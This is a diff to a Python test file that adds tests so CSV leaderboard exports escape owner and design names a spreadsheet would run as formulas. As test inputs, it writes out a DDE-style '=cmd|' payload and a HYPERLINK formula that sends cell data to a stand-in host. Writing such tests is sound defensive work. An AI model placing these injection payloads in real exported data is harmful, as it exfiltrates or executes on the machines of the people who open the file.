@@ -68,8 +68,19 @@ def test_csv_has_a_header_and_a_line_per_owner_with_names_as_given():
     rows = best_per_owner(scores([run('=cmd|"x"', 0.9), run("bo, jr", 0.8)], Challenge()), lambda r: 0.01)
     lines = list(csv.reader(io.StringIO(board_csv(rows))))
     assert lines[0][:5] == ["Owner", "Design", "Parameters", "Epochs", "Test accuracy"]
-    assert [line[0] for line in lines[1:]] == ['=cmd|"x"', "bo, jr"]  # quoted by csv, not split or lost
+    assert [line[0] for line in lines[1:]] == ['\'=cmd|"x"', "bo, jr"]  # quoted by csv, not split or lost
     assert lines[1][4:6] == ["0.9000", "0.0100"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(start):
+    """`=HYPERLINK(...)` as an owner's or a design's name was a live formula in the teacher's spreadsheet."""
+    name = f'{start}HYPERLINK("http://example.invalid/?"&A1,"grade")'
+    rows = best_per_owner(scores([run(name, 0.9, name=name), run("bo", 0.8, name="plain")], Challenge()), no_gap)
+    lines = list(csv.reader(io.StringIO(board_csv(rows), newline="")))
+    assert lines[1][:2] == ["'" + name, "784 → 32 relu → 10"] and lines[2][0] == "bo"
+    negative = best_per_owner(scores([run("cy", 0.9)], Challenge()), lambda r: -0.02)
+    assert list(csv.reader(io.StringIO(board_csv(negative))))[1][5] == "-0.0200"  # the app's numbers stay numbers
 
 
 def test_a_budget_ranks_only_the_runs_inside_it():
